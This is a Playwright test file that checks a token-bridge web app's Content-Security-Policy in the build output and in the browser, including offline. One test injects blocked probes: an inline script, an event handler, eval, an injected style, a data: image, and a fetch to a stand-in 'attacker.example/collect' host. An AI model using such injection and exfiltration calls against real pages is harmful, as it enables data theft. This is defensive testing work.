// The Content-Security-Policy of the build: present and first in <head>, the
// same as dist/_headers, enforced by Chromium, and the whole app working under it with no
// violation: styles, worker, analytics, logos, service worker and offline reload.
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import type { Page } from '@playwright/test';
import {
  DIST_DIR,
  TEXT,
  allSourcesAnswered,
  bridgeNowButtons,
  expect,
  foundCount,
  foundLine,
  search,
  stubBridgeSites,
  test,
  waitForServiceWorker,
} from './fixtures';

interface Violation {
  directive: string;
  blocked: string;
  sample: string;
  url: string;
}

/**
 * Records every CSP violation of every document the page loads (the listener is installed before
 * the app's scripts run, and reports through a binding that survives navigations), and every
 * console message about the policy.
 */
const SQUARE_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8"/></svg>';

async function watchPolicy(page: Page): Promise<{ violations: Violation[]; console: string[] }> {
  const seen = { violations: [] as Violation[], console: [] as string[] };
  await page.exposeFunction('__reportCspViolation', (violation: Violation) => {
    seen.violations.push(violation);
  });
  await page.addInitScript(() => {
    const w = window as unknown as {
      __cspViolations: unknown[];
      __reportCspViolation: (v: unknown) => void;
    };
    w.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      const violation = {
        directive: event.effectiveDirective,
        blocked: event.blockedURI,
        sample: event.sample,
        url: event.documentURI,
      };
      w.__cspViolations.push(violation);
      w.__reportCspViolation(violation);
    });
  });
  page.on('console', (message) => {
    if (
      /Content[ -]Security[ -]Policy|Refused to|Permissions-Policy|Referrer[ -]Policy/i.test(
        message.text(),
      )
    ) {
      seen.console.push(`${message.type()}: ${message.text()}`);
    }
  });
  return seen;
}

/** The violations recorded in the current document. */
function documentViolations(page: Page): Promise<Violation[]> {
  return page.evaluate(
    () => (window as unknown as { __cspViolations: Violation[] }).__cspViolations,
  );
}

function readBuiltPolicy() {
  const html = fs.readFileSync(path.join(DIST_DIR, 'index.html'), 'utf8');
  const head = /<head>\s*([\s\S]*?)<\/head>/.exec(html)?.[1] ?? '';
  const decode = (text: string) =>
    text
      .replace(/&#39;/g, "'")
      .replace(/&quot;/g, '"')
      .replace(/&amp;/g, '&');
  const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html);
  const headers = fs.readFileSync(path.join(DIST_DIR, '_headers'), 'utf8');
  return { html, head, meta: meta ? decode(meta[1] ?? '') : null, headers };
}

test.describe('the policy in the build', () => {
  test('index.html opens <head> with the CSP and referrer meta tags; its two inline scripts and its inline styles are allowed by hash', () => {
    const { html, head, meta } = readBuiltPolicy();
    expect(head).toMatch(
      /^<meta http-equiv="Content-Security-Policy" content="[^"]+">\s*<meta name="referrer" content="no-referrer">/,
    );
    expect(meta).not.toBeNull();
    const policy = meta ?? '';
    const sha256 = (text: string) =>
      `'sha256-${crypto.createHash('sha256').update(text, 'utf8').digest('base64')}'`;
    // The e2e build: root-relative sources and analytics host, so the page connects to itself only.
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("connect-src 'self';");
    expect(policy).toContain("img-src 'self' https:;");
    expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|frame-ancestors/);
    // Two inline scripts, each allowed by its hash, and nothing else: the prerendered page's
    // visit check and the module script that starts the app after the first paint (the files
    // it loads are named in its attributes, not its text). No script loads a file itself.
    const inline: string[] = [];
    for (const tag of html.match(/<script\b[^>]*>[\s\S]*?<\/script>/g) ?? []) {
      const script = /^<script(?:| type="module"( data-[\w-]+="[^"]*")+)>([\s\S]*)<\/script>$/.exec(
        tag,
      );
      expect(script, tag.slice(0, 200)).not.toBeNull();
      inline.push(script?.[2] ?? '');
    }
    expect(inline).toHaveLength(2);
    const scriptSrc = /script-src ([^;]+);/.exec(policy)?.[1]?.split(' ') ?? [];
    expect(scriptSrc.sort()).toEqual(["'self'", ...inline.map(sha256)].sort());
    // Every inline <style> (index.html's own and the prerendered screen's) is allowed by its hash.
    const styles = [...html.matchAll(/<style\b[^>]*>([\s\S]*?)<\/style>/g)].map((m) => m[1] ?? '');
    expect(styles.length).toBeGreaterThanOrEqual(3);
    for (const css of styles) expect(policy).toContain(sha256(css));
  });

  test('dist/_headers sends the same policy, plus frame-ancestors, to every path', () => {
    const { meta, headers } = readBuiltPolicy();
    const lines = headers.trimEnd().split('\n');
    expect(lines[0]).toBe('/*');
    expect(lines).toContain(`  Content-Security-Policy: ${meta}; frame-ancestors 'none'`);
    expect(lines).toContain('  Referrer-Policy: no-referrer');
    expect(lines).toContain('  X-Content-Type-Options: nosniff');
    expect(lines.some((l) => l.startsWith('  Permissions-Policy: camera=()'))).toBe(true);
  });
});

test.describe('the policy in Chromium', () => {
  test('blocks injected inline script, inline handlers, eval, inline style, data: images and foreign hosts', async ({
    page,
  }) => {
    const seen = await watchPolicy(page);
    await page.goto('/');
    await expect(page.getByRole('heading', { name: TEXT.homeTitle })).toBeVisible();
    const served = await page.locator('head > meta:first-child').getAttribute('content');
    expect(served).toBe(readBuiltPolicy().meta);

    // eval is tried from a script of our own origin (what an attacker who got a file onto the
    // origin, or a compromised dependency, would run): DevTools' own evaluation is exempt from CSP.
    await page.route('**/__csp-probe.js', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: `
          const tryIt = (fn) => { try { fn(); return 'ran'; } catch (error) { return error.name; } };
          window.__probe = {
            eval: tryIt(() => (0, eval)('window.__evalRan = true')),
            function: tryIt(() => new Function('window.__functionRan = true')()),
          };
          setTimeout('window.__timeoutStringRan = true', 0);
          setTimeout(() => { window.__probe.done = true; }, 50);
        `,
      }),
    );

    const outcome = await page.evaluate(async () => {
      const w = window as unknown as Record<string, unknown>;
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.head.appendChild(script);

      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.__handlerRan = true');
      document.body.appendChild(button);
      button.click();
      button.remove();

      const image = document.createElement('img');
      image.src =
        'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"/>';
      const imageLoaded = await new Promise<boolean>((resolve) => {
        image.onload = () => resolve(true);
        image.onerror = () => resolve(false);
      });

      const style = document.createElement('style');
      style.textContent = 'body { --csp-probe: injected; }';
      document.head.appendChild(style);

      let fetchResult = 'fetched';
      try {
        await fetch('https://attacker.example/collect');
      } catch (error) {
        fetchResult = (error as Error).name;
      }

      const probe = document.createElement('script');
      probe.src = '/__csp-probe.js';
      await new Promise((resolve, reject) => {
        probe.onload = resolve;
        probe.onerror = reject;
        document.head.appendChild(probe);
      });
      const results = w.__probe as Record<string, unknown>;
      await new Promise<void>((resolve) => {
        const check = () => (results.done ? resolve() : setTimeout(check, 10));
        check();
      });
      return {
        inlineRan: w.__inlineRan ?? false,
        handlerRan: w.__handlerRan ?? false,
        evalRan: w.__evalRan ?? false,
        functionRan: w.__functionRan ?? false,
        timeoutStringRan: w.__timeoutStringRan ?? false,
        evalResult: results.eval,
        functionResult: results.function,
        injectedStyle: getComputedStyle(document.body).getPropertyValue('--csp-probe'),
        imageLoaded,
        fetchResult,
      };
    });

    expect(outcome).toEqual({
      inlineRan: false,
      handlerRan: false,
      evalRan: false,
      functionRan: false,
      timeoutStringRan: false,
      evalResult: 'EvalError',
      functionResult: 'EvalError',
      injectedStyle: '',
      imageLoaded: false,
      fetchResult: 'TypeError',
    });
    await expect
      .poll(async () => (await documentViolations(page)).map((v) => v.directive).sort())
      .toEqual(
        [
          'connect-src',
          'img-src',
          'script-src',
          'script-src',
          'script-src',
          'script-src-attr',
          'script-src-elem',
          'style-src-elem',
        ].sort(),
      );
    expect(seen.violations).toHaveLength(8);
  });

  test('the whole journey runs with no violation: styles, worker, analytics, logos, Bridge Now, service worker, offline', async ({
    page,
    context,
    harness,
  }) => {
    const seen = await watchPolicy(page);
    // The logo hosts answer locally (no internet here); the policy is checked before any request.
    const logoRequests: string[] = [];
    await context.route(/^https:\/\/[^/]+\/.*\.(svg|png)(\?.*)?$/, (route) => {
      logoRequests.push(route.request().url());
      return route.fulfill({
        status: 200,
        contentType: 'image/svg+xml',
        body: SQUARE_SVG,
      });
    });
    await stubBridgeSites(page);
    const referers: string[] = [];
    page.on('request', (request) => {
      void request.allHeaders().then((headers) => {
        if (headers.referer) referers.push(`${request.url()} <- ${headers.referer}`);
      });
    });

    await page.goto('/');
    await expect(page.getByRole('heading', { name: TEXT.homeTitle })).toBeVisible();
    // styled-components' rules are in place (its <style> is created empty, filled by insertRule).
    const styled = await page.evaluate(() => {
      const element = document.querySelector('style[data-styled]') as HTMLStyleElement | null;
      return element?.sheet?.cssRules.length ?? -1;
    });
    expect(styled).toBeGreaterThan(0);
    await waitForServiceWorker(page);

    await search(page, 'usdc');
    await expect(foundLine(page)).toBeVisible();
    expect(await foundCount(page)).toBeGreaterThan(0);
    await harness.waitForEvent('Token Search', (p) => p.search_query === 'usdc');
    // At least one https logo really loaded under img-src.
    await expect
      .poll(() =>
        page.evaluate(() =>
          Array.from(document.images).some(
            (img) => img.src.startsWith('https:') && img.complete && img.naturalWidth > 0,
          ),
        ),
      )
      .toBe(true);

    const [popup] = await Promise.all([
      page.waitForEvent('popup'),
      bridgeNowButtons(page).first().click(),
    ]);
    await popup.waitForLoadState();
    expect(await popup.evaluate(() => document.referrer)).toBe('');
    await popup.close();
    await harness.waitForEvent('Bridge Now Clicked');

    await page.goto('/tokens/stargate');
    await expect(page.getByText(/^\d+ token\(s\) available for cross-chain bridging$/)).toBeVisible(
      {
        timeout: 30_000,
      },
    );
    await harness.waitForEvent('Protocol Page View', (p) => p.protocol === 'Stargate');
    await allSourcesAnswered(harness);

    // A reload is answered by the service worker and stays controlled.
    await page.reload();
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    expect(await page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);

    // Offline: the shell from the service worker, the data from IndexedDB, still no violation.
    await context.setOffline(true);
    harness.control({ offline: true });
    await page.goto('/');
    await context.setOffline(false);
    await context.setOffline(true);
    await expect(page.getByRole('heading', { name: TEXT.homeTitle })).toBeVisible();
    await search(page, 'usdc');
    await expect(foundLine(page)).toBeVisible();
    expect(await page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);

    expect(logoRequests.length).toBeGreaterThan(0);
    expect(seen.violations).toEqual([]);
    expect(await documentViolations(page)).toEqual([]);
    expect(seen.console).toEqual([]);
    // no-referrer: no request of the page carries a Referer. The data worker's own requests are
    // outside the meta tag (a worker takes its referrer policy from its script's response
    // headers; dist/_headers covers it): they may name the worker script, never a page URL.
    for (const entry of referers) {
      expect(entry).toMatch(/ <- http:\/\/127\.0\.0\.1:\d+\/assets\/data\.worker-[\w-]+\.js$/);
    }
  });

  test('a source logo as a data: URL never reaches an <img>; an https logo renders', async ({
    page,
    context,
    harness,
  }) => {
    const seen = await watchPolicy(page);
    await context.route('https://logos.example/**', (route) =>
      route.fulfill({ status: 200, contentType: 'image/svg+xml', body: SQUARE_SVG }),
    );
    const token = { chainKey: 'base', decimals: 18, isBridgeable: true, isVerified: true };
    harness.control({
      source: 'stargate',
      body: [
        {
          ...token,
          address: '0x000000000000000000000000000000000000bEEF',
          symbol: 'LOGOTESTA',
          name: 'Inline logo',
          icon: `data:image/svg+xml;base64,${Buffer.from(SQUARE_SVG).toString('base64')}`,
        },
        {
          ...token,
          address: '0x000000000000000000000000000000000000bEE0',
          symbol: 'LOGOTESTB',
          name: 'Hosted logo',
          icon: 'https://logos.example/b.svg',
        },
      ],
    });
    await page.goto('/');
    await search(page, 'LOGOTEST');
    await expect(foundLine(page)).toHaveText('Found 2 bridge option(s)');
    await expect
      .poll(() =>
        page.evaluate(() =>
          Array.from(document.images)
            .filter((img) => img.complete && img.naturalWidth > 0)
            .map((img) => img.src)
            // Our own network and token icons (same origin) are not source logos.
            .filter((src) => new URL(src).origin !== location.origin),
        ),
      )
      .toEqual(['https://logos.example/b.svg']);
    expect(
      await page.evaluate(() => Array.from(document.images).some((i) => i.src.startsWith('data:'))),
    ).toBe(false);
    expect(seen.violations).toEqual([]);
  });
});

test.describe('the policy as response headers (dist/_headers)', () => {
  // Headers are added to the responses as the page receives them; with a service worker they
  // would come from its cache instead, so this test runs without one.
  test.use({ serviceWorkers: 'block' });

  test('a host sending the _headers lines gets the same app with no violation, worker included', async ({
    page,
    context,
    harness,
  }) => {
    const { headers } = readBuiltPolicy();
    const extra = Object.fromEntries(
      headers
        .split('\n')
        .slice(1)
        .filter((line) => line.trim() !== '')
        .map((line) => {
          const at = line.indexOf(':');
          return [line.slice(0, at).trim().toLowerCase(), line.slice(at + 1).trim()];
        }),
    );
    const withHeaders: string[] = [];
    await context.route(`${harness.url}/**`, async (route) => {
      const response = await route.fetch();
      withHeaders.push(new URL(route.request().url()).pathname);
      await route.fulfill({ response, headers: { ...response.headers(), ...extra } });
    });
    const seen = await watchPolicy(page);
    const referers: string[] = [];
    page.on('request', (request) => {
      void request.allHeaders().then((h) => {
        if (h.referer) referers.push(`${request.url()} <- ${h.referer}`);
      });
    });

    await page.goto('/');
    await search(page, 'usdc');
    await expect(foundLine(page)).toBeVisible();
    await harness.waitForEvent('Token Search', (p) => p.search_query === 'usdc');
    await allSourcesAnswered(harness);

    // The data worker's script came with the headers, so its fetches follow them too.
    expect(withHeaders.some((p) => /^\/assets\/data\.worker-[\w-]+\.js$/.test(p))).toBe(true);
    expect(withHeaders).toContain('/sources/stargate.json');
    expect(seen.violations).toEqual([]);
    expect(seen.console).toEqual([]);
    expect(referers).toEqual([]);
  });
});
